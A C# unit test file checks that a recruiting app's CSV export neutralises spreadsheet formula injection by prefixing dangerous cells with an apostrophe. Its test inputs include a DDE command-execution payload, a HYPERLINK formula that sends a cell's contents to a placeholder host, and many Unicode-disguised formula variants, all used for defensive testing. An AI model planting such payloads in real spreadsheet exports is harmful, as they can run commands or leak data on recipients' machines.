using System.Text;
using ApplyFunctions.Infrastructure.Recruiting;
using AwesomeAssertions;
using CsvHelper;
using Xunit;

namespace ApplyFunctions.Unit.Tests.Recruiting;

/// <summary>What stands in the cells of a file for spreadsheets.</summary>
public sealed class ApplicationSheetTests
{
    private readonly CsvApplicationSheet _sheet = new();

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://example.com/?\"&A1,\"cv\")")]
    [InlineData("+1+1")]
    [InlineData("+44 20 7946 0000")]
    [InlineData("-1+1")]
    [InlineData("-")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\tEva")]
    [InlineData("  =1+1")]
    [InlineData("\u00a0=1+1")]
    [InlineData("\u3000=1+1")]
    [InlineData("\u2003 \u200b=1+1")]
    [InlineData("\ufeff=1+1")]
    [InlineData("\u202e=1+1")]
    [InlineData("\u0000=1+1")]
    [InlineData("\uff1d1+1")]
    [InlineData("\uff0b1")]
    [InlineData("\uff0d1")]
    [InlineData("\uff20SUM(1)")]
    [InlineData(" \uff1d1")]
    [InlineData("\ufe661")]
    [InlineData("\ufe621")]
    [InlineData("\ufe631")]
    [InlineData("\ufe6bSUM(1)")]
    [InlineData("\u22121")]
    [InlineData("\u207a1")]
    [InlineData("=1+1,\"\r\n=2+2")]
    [InlineData("=1;=2")]
    public void What_a_spreadsheet_would_calculate_is_text(string attack)
    {
        Read([attack, "b"]).Should().Equal($"'{attack}", "b");
        Read(["a", attack]).Should().Equal("a", $"'{attack}");
    }

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("Eva-Maria = @home + 1")]
    [InlineData("O'Neil, \"Ada\"; x\r\ny\nz\rw")]
    [InlineData("'=1+1")]
    [InlineData("%41")]
    [InlineData("東京 = 東京")]
    [InlineData("🙂=")]
    [InlineData("\ufffe\uffff\ufdd0=1")]
    public void All_else_comes_back_as_it_was(string text) =>
        Read([text, "b"]).Should().Equal(text, "b");

    [Fact]
    public void A_half_of_a_character_breaks_nothing() =>
        Read(["\ud800", "\udfff=1"])[1].Should().EndWith("=1");

    [Fact]
    public void A_file_begins_with_its_mark_and_its_columns_are_inert_too()
    {
        var head = _sheet.Head(["a", "=b"]).ToArray();

        head.Should().StartWith(Encoding.UTF8.GetPreamble());
        Encoding.UTF8.GetString(head[3..]).Should().Be("a,'=b\r\n");
        _sheet.Rows([]).IsEmpty.Should().BeTrue();
    }

    private string[] Read(string[] row)
    {
        using var csv = CsvReader.Create(
            _sheet.Rows([row]).ToArray(),
            new CsvReaderOptions { HasHeader = false }
        );
        csv.Read().Should().BeTrue();
        string[] cells = [.. Enumerable.Range(0, csv.FieldCount).Select(i => csv.GetString(i))];
        csv.Read().Should().BeFalse();
        return cells;
    }
}
